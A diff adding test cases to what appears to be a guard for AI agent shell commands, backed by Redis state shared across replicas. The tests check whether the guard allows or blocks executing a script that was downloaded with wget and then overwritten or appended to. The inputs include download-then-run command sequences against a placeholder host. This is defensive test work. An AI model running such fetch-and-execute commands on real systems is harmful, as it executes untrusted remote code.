@@ -195,6 +195,14 @@ describe.runIf(runRedis)("RedisStateStore on a real redis-server", () => {
     const write = ev("pre_action", { tool_name: "Write", arguments: { file_path: "t.sh", content: "echo hi" } }, { session_id: "dl2" });
     expect(tag(await hb.onEvent!(write, {} as never))).toBe("allow");
     expect(tag(await on(ha, "bash t.sh", "dl2"))).toBe("allow");
+    // A download replaced through one replica by a shell redirection is the agent's own file on the other.
+    expect(tag(await on(ha, "wget -qO r.sh https://x.example/r.sh", "dl3"))).toBe("allow");
+    expect(tag(await on(hb, "cat > r.sh <<EOF\necho mine\nEOF", "dl3"))).toBe("allow");
+    expect(tag(await on(ha, "bash r.sh", "dl3"))).toBe("allow");
+    // Appending to it does not.
+    expect(tag(await on(ha, "wget -qO s.sh https://x.example/s.sh", "dl4"))).toBe("allow");
+    expect(tag(await on(hb, "echo 'echo more' >> s.sh", "dl4"))).toBe("allow");
+    expect(tag(await on(ha, "bash s.sh", "dl4"))).toBe("block");
     await Promise.all([a.close(), b.close()]);
   });
 
